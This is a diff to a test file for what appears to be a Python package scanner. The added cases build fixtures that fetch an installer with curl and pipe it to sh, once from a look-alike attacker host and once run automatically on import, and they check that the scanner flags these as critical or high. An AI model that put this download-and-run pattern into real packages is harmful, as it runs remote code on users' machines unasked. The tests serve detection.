@@ -11,8 +11,8 @@ beforeAll(async () => {
 });
 
 /** The gravest severity by rule of a module that is run as a script and can be imported. */
-function found(text: string): Partial<Record<string, Severity>> {
-  const { findings } = judgeSources(sourceTree({ 'fixture-1.0/pkg/__main__.py': text }), python);
+function found(text: string, path = 'fixture-1.0/pkg/__main__.py'): Partial<Record<string, Severity>> {
+  const { findings } = judgeSources(sourceTree({ [path]: text }), python);
   return gravestByRule(findings);
 }
 
@@ -110,4 +110,23 @@ test.each([
   ['["sh", "a.proto"]', 'CRITICAL'],
 ])('a file that was fetched is translated, or run: %s', (command, severity) => {
   expect(found(TRANSLATED(command))['download-started']).toBe(severity);
+});
+
+const INSTALLER = (address: string): string => `
+import subprocess
+def install():
+    fetched = subprocess.run(["curl", "-LsSf", "${address}"], capture_output=True, text=True, check=True)
+    subprocess.run(["sh"], input=fetched.stdout, text=True, check=True)`;
+
+test.each([
+  ['https://astral.sh/uv/install.sh', undefined],
+  ['http://astral.sh/uv/install.sh', 'CRITICAL'],
+  ['https://astral.sh.evil.invalid/uv/install.sh', 'CRITICAL'],
+])('an installer that one program fetches and another one runs: %s', (address, severity) => {
+  expect(found(INSTALLER(address))['download-started']).toBe(severity);
+});
+
+test('the installer of a vendor that is run unasked, by two programs', () => {
+  const text = `${INSTALLER('https://astral.sh/uv/install.sh')}\ninstall()`;
+  expect(found(text, 'fixture-1.0/pkg/__init__.py')).toMatchObject({ 'vendor-program-started': 'HIGH' });
 });
